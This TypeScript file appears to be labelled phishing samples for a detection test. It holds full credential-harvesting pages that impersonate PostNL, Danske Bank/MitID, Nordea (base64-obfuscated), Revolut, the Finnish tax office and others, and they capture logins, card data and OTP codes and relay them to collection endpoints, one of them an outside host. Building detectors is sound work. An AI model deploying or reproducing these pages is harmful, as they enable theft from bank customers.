import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, footer, cardFields, cardFormat, relay, tgRelay, logo, type Lang } from '../parts/zs-kit.js';
import { jsRoute } from '../parts/e-bin.js';

const box = (lang: Lang, title: string, brand: string, color: string, inner: string, script: string, bar = '#fff') => doc({ lang, title, body: `<header class="top" style="background:${bar}">${logo(brand, color)}</header><main class="center" style="max-width:480px"><div class="card">${inner}</div></main>`, script });
const otpStep = (lang: Lang, brand: string, color: string, msg: string, btn: string) => htmlRoute(box(lang, brand, brand, color, `<h2>${msg}</h2><form id="o"><input name="otp" inputmode="numeric" maxlength="8" autocomplete="one-time-code" required><button class="btn" style="margin-top:12px;width:100%;background:${color}">${btn}</button></form>`, relay('o', 'next.php?s=otp', 'https://www.google.com/')));

export const entries: Entry[] = [
  {
    id: 'zs-parcel-postnl-redelivery-nl',
    label: 'phishing',
    kind: 'parcel-fee-kit',
    url: 'https://postnl.bezorging-herplannen.nl/pakket',
    body: doc({ lang: 'nl', title: 'PostNL – Bezorging opnieuw plannen', body: `<header class="top"><b style="background:#ed7000;color:#fff;padding:6px 10px;border-radius:50%">PostNL</b></header><main class="center"><div class="card"><h1>We hebben je gemist</h1><p>Je pakket (3SABCD8812931) kon niet worden bezorgd. Plan een nieuw bezorgmoment. Hiervoor rekenen we <b>€1,95</b> herbezorgkosten.</p><form id="b"><label>Kies je bank (iDEAL)</label><select name="bank"><option>ING</option><option>Rabobank</option><option>ABN AMRO</option><option>SNS</option><option>ASN</option><option>bunq</option></select><label>Postcode</label><input name="pc"><button class="btn" style="margin-top:12px;width:100%;background:#ed7000">Betalen met iDEAL</button></form></div></main>`, script: `document.getElementById('b').onsubmit=function(e){e.preventDefault();location.href='/ideal/'+this.bank.value.toLowerCase().replace(/\\s/g,'')+'?pc='+encodeURIComponent(this.pc.value)}` }),
    routes: { 'postnl.bezorging-herplannen.nl/ideal/ing': htmlRoute(box('nl', 'Mijn ING – Inloggen', 'ING', '#ff6200', `<h1>Inloggen Mijn ING</h1><form id="l"><label>Gebruikersnaam</label><input name="u" required><label>Wachtwoord</label><input name="p" type="password" required><button class="btn" style="margin-top:12px;width:100%;background:#ff6200">Inloggen</button></form>`, relay('l', '/ideal/next.php?b=ing', '/ideal/ing-app'))) },
  },
  {
    id: 'zs-toll-ireland-eflow-ie',
    label: 'phishing',
    kind: 'toll-kit',
    url: 'https://eflow-ie-tolls.com/pay?ref=M50-2291',
    body: box('en', 'eFlow – Pay your M50 toll', 'eFlow', '#6cb33e', `<h1>Outstanding M50 toll</h1><p>Vehicle 221-D-18832 passed the M50 barrier-free toll on ${new Date(Date.now() - 864e5 * 3).toLocaleDateString('en-IE')}. Amount due: <b>€3.70</b>. Pay today to avoid a €41.50 penalty.</p><form id="t"><label>Vehicle registration</label><input name="reg"><label>Email</label><input name="email">${cardFields({ name: 'Name on card', num: 'Card number', exp: 'Expiry', cvc: 'CVV' })}<button class="btn" style="margin-top:12px;width:100%;background:#6cb33e">Pay €3.70</button></form>`, cardFormat + relay('t', '/api/submit', '/verify')),
    routes: { 'eflow-ie-tolls.com/verify': otpStep('en', 'eFlow', '#6cb33e', 'Enter the code sent by your bank', 'Verify') },
  },
  {
    id: 'zs-bank-danske-mitid-da',
    label: 'phishing',
    kind: 'bank-kit-otp',
    url: 'https://danskebank-dk.kunde-sikkerhed.com/login',
    body: box('da', 'Danske Bank – Log på', 'Danske Bank', '#003755', `<h1>Log på med MitID</h1><p>Vi har opdateret vores sikkerhed. Bekræft din identitet for at undgå at din konto spærres.</p><form id="l"><label>Bruger-ID</label><input name="uid" required><label>CPR-nummer</label><input name="cpr" required><label>Adgangskode</label><input name="pw" type="password"><button class="btn" style="margin-top:12px;width:100%;background:#003755">Fortsæt</button></form>`, relay('l', 'next.php?s=1', '/mitid')),
    routes: { 'danskebank-dk.kunde-sikkerhed.com/mitid': htmlRoute(box('da', 'MitID', 'MitID', '#0060e6', `<h2>Godkend i MitID-appen</h2><p>Åbn MitID-appen og godkend anmodningen. Indtast derefter koden fra din kodeviser hvis du bruger en sådan.</p><form id="o"><label>Kode</label><input name="code" maxlength="6"><button class="btn" style="margin-top:12px;width:100%">Godkend</button></form><script>setInterval(function(){fetch('status.php?s=wait').then(function(r){return r.text()}).then(function(t){if(t==='ok')location.href='https://danskebank.dk/'})},3000)</script>`, relay('o', 'next.php?s=2', '/vent'))) },
  },
  {
    id: 'zs-bank-nordea-obf-fi',
    label: 'phishing',
    kind: 'bank-kit-obfuscated',
    url: 'https://nordea-fi-asiakaspalvelu.net/tunnistaudu/',
    body: `<!DOCTYPE html><html lang="fi"><head><meta charset="utf-8"><title>Nordea</title></head><body><script>var _0x=['PGhlYWRlciBzdHlsZT0icGFkZGluZzoxNnB4O2JhY2tncm91bmQ6IzAwMDA5OTtjb2xvcjojZmZmO2ZvbnQ6NzAwIDIycHggQXJpYWwiPk5vcmRlYTwvaGVhZGVyPg==','PGRpdiBzdHlsZT0ibWF4LXdpZHRoOjQyMHB4O21hcmdpbjo0MHB4IGF1dG87Zm9udC1mYW1pbHk6QXJpYWwiPjxoMj5UdW5uaXN0YXVkdSB2ZXJrb3BhbmtraXR1bm51a3NpbGxhPC9oMj48cD5UaWxpbGzDpHNpIG9uIHR1bGxhIHN1bGpldHR1IHR1bm5pc3RhdXR1bWF0dG9tYW4gdG9pbWludGFuLjwvcD48Zm9ybSBpZD0ibiI+PGxhYmVsPkvDpHl0dMOkamF0dW5udXM8L2xhYmVsPjxicj48aW5wdXQgbmFtZT0idSI+PGJyPjxsYWJlbD5TYWxhc2FuYTwvbGFiZWw+PGJyPjxpbnB1dCBuYW1lPSJwIiB0eXBlPSJwYXNzd29yZCI+PGJyPjxidXR0b24+SmF0a2E8L2J1dHRvbj48L2Zvcm0+PC9kaXY+'];document.write(decodeURIComponent(escape(atob(_0x[0])))+decodeURIComponent(escape(atob(_0x[1]))));
document.getElementById('n').addEventListener('submit',function(e){e.preventDefault();var x=new XMLHttpRequest();x.open('POST',atob('L2dhdGUvcG9zdC5waHA='));x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.send('u='+encodeURIComponent(this.u.value)+'&p='+encodeURIComponent(this.p.value));x.onload=function(){location.href='/tunnistaudu/koodi'}});</script></body></html>`,
  },
  {
    id: 'zs-bank-revolut-card-verify-uk',
    label: 'phishing',
    kind: 'bank-kit-card',
    url: 'https://revolut-secure-review.app/card-review',
    body: box('en', 'Revolut – Card review', 'Revolut', '#191c1f', `<h1>Suspicious payment blocked</h1><p>We blocked a payment of <b>£1,249.00</b> to APPLE.COM/BILL. If this wasn't you, confirm your card details to secure your account and receive a refund.</p><form id="c"><label>Mobile number</label><input name="phone">${cardFields({ name: 'Cardholder name', num: 'Card number', exp: 'Expiry', cvc: 'CVV' })}<label>Revolut passcode</label><input name="pin" type="password" maxlength="4" inputmode="numeric"><button class="btn" style="margin-top:12px;width:100%;background:#191c1f">Secure my account</button></form>`, cardFormat + relay('c', '/x/next.php', '/sms')),
    routes: { 'revolut-secure-review.app/sms': otpStep('en', 'Revolut', '#191c1f', 'Enter the 6-digit code we sent by SMS', 'Confirm') },
  },
  {
    id: 'zs-gov-vero-refund-fi',
    label: 'phishing',
    kind: 'gov-tax-refund-kit',
    url: 'https://omavero-palautus.fi-vero.info/tunnistus',
    body: box('fi', 'OmaVero – Veronpalautus', 'Vero Skatt', '#00348a', `<h1>Veronpalautus odottaa</h1><p>Sinulle on maksamatta veronpalautusta <b>612,40 €</b>. Valitse pankkisi tunnistautumista varten.</p><div class="grid" style="grid-template-columns:repeat(3,1fr)">${['OP', 'Nordea', 'Danske Bank', 'S-Pankki', 'Aktia', 'POP Pankki'].map((b) => `<a class="btn alt" href="/pankki/${b.toLowerCase().replace(/\s/g, '')}">${b}</a>`).join('')}</div>`, ''),
    routes: { 'omavero-palautus.fi-vero.info/pankki/op': htmlRoute(box('fi', 'OP – Tunnistautuminen', 'OP', '#ff6a10', `<h2>Tunnistaudu OP-tunnuksilla</h2><form id="o"><label>Käyttäjätunnus</label><input name="u"><label>Salasana</label><input name="p" type="password"><button class="btn" style="margin-top:12px;width:100%;background:#ff6a10">Jatka</button></form>`, relay('o', '/pankki/post.php', '/pankki/vahvista'))) },
  },
  {
    id: 'zs-escrow-kleinanzeigen-sicher-bezahlen-de',
    label: 'phishing',
    kind: 'marketplace-payment-kit',
    url: 'https://kleinanzeigen.de-sicher-bezahlen.com/receive/5521904',
    body: box('de', 'Kleinanzeigen – Sicher bezahlen', 'kleinanzeigen', '#1d4b00', `<h1>Zahlung erhalten</h1><p>Der Käufer hat <b>180,00 €</b> für „Kinderwagen Bugaboo Fox“ inkl. DHL-Versand bezahlt. Geben Sie Ihre Kartendaten ein, um das Geld zu erhalten.</p><form id="k">${cardFields({ name: 'Name', num: 'Kartennummer', exp: 'Ablaufdatum', cvc: 'CVC' })}<button class="btn" style="margin-top:12px;width:100%;background:#1d4b00">Geld erhalten</button></form><p class="small">Sicher bezahlen – geschützt durch Kleinanzeigen</p>`, cardFormat + relay('k', '/api/v2/receive', '/receive/3ds')),
  },
  {
    id: 'zs-mail-webmail-telenor-upgrade-da',
    label: 'phishing',
    kind: 'webmail-kit',
    url: 'https://mail-webmail-opgradering.weebly-host.com/',
    body: box('da', 'Webmail – Opgrader postkasse', 'Webmail', '#5a5a5a', `<h1>Din postkasse er fuld (99%)</h1><p>Du vil ikke kunne modtage nye e-mails. Bekræft dit login for at opgradere gratis til 50 GB.</p><form id="w"><label>E-mailadresse</label><input name="email" id="em"><label>Adgangskode</label><input name="pass" type="password"><button class="btn" style="margin-top:12px;width:100%">Opgrader nu</button></form>`, `var m=location.hash.slice(1);if(m)document.getElementById('em').value=atob(m);` + relay('w', 'https://formsubmit-relay.net/f/a81c29', 'https://www.tdc.dk/')),
  },
];
